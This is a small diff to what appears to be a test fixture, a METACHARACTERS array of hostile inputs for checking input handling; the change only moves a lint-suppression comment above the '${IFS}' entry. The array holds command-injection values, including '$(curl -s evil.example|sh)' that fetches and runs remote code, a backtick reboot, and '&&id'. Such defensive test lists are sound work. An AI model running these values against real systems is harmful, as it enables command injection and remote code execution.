@@ -31,10 +31,10 @@ export const METACHARACTERS = [
   'a/../b',
   '$(curl -s evil.example|sh)',
   '`reboot`',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile value, a shell expansion on purpose
   '&&id',
   '|id',
   '>x',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile value, a shell expansion on purpose
   '${IFS}',
   '\u0000',
   '\u202e',
